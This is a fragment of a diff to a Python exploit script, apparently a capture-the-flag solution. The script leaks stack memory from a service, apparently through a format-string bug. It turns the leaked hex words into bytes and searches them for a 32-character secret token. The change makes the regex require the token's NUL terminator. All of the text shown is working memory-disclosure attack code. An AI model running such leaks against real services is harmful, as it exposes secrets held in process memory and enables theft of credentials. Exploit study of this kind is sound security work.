@@ -397,10 +397,11 @@ for start in range(1, 400, 16):
     words = until(b"> ").split("Badge of ", 1)[1].split("\n", 1)[0].split("|")
     for word in words:
         stack += (0 if word == "(nil)" else int(word, 16)).to_bytes(8, "little")
-    # The token is 32 lowercase hex digits somewhere in what was leaked.
-    found = re.search(rb"[0-9a-f]{32}", stack)
+    # The token is 32 lowercase hex digits and its terminating NUL somewhere in what was leaked
+    # (the bytes before it are whatever the stack held: they may be hex digits too).
+    found = re.search(rb"([0-9a-f]{32})\x00", stack)
     if found:
-        token = found.group(0).decode()
+        token = found.group(1).decode()
         break
 if token is None:
     sys.exit("no token on the stack")
